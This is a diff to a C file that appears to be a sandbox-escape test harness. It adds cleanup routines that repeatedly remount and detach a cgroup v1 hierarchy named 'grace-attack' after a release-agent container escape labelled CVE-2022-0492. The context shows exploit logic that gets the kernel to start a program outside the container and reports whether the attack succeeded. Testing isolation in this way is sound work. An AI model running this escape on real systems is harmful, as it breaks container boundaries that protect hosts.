@@ -82,6 +82,28 @@ static void unmount(char **arguments) {
 
 // --- control groups ---
 
+// A hierarchy goes with its last mount only if the child is wholly gone by then, which the kernel does in its own time after rmdir; else
+// it stays, in every process's /proc/PID/cgroup, until it is mounted and unmounted once more.
+static int hierarchy_is_there(void) {
+    char text[4096];
+    int file = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC);
+    ssize_t length = file < 0 ? -1 : read(file, text, sizeof text - 1);
+    if (file >= 0)
+        close(file);
+    if (length < 0)
+        return 0;
+    text[length] = 0;
+    return strstr(text, "name=grace-attack:") != NULL;
+}
+
+static void take_down_hierarchy(const char *directory) {
+    for (int i = 0; i < 500 && hierarchy_is_there(); i++) {
+        usleep(20000);
+        if (mount_raw("none", directory, "cgroup", 0, "none,name=grace-attack") == 0)
+            syscall(SYS_umount2, directory, MNT_DETACH_);
+    }
+}
+
 // `release-agent DIRECTORY PROGRAM [MARK]` (CVE-2022-0492): a version-1 hierarchy of one's own, whose release agent the kernel starts
 // outside. With MARK, which the program makes, it waits for that and takes the hierarchy down again.
 static void release_agent(char **arguments) {
@@ -125,6 +147,7 @@ static void release_agent(char **arguments) {
     snprintf(path, sizeof path, "%s/child", arguments[0]);
     rmdir(path);
     syscall(SYS_umount2, arguments[0], MNT_DETACH_);
+    take_down_hierarchy(arguments[0]);
     if (code == 0)
         attacks_succeeded("the release agent ran");
     errno = code;
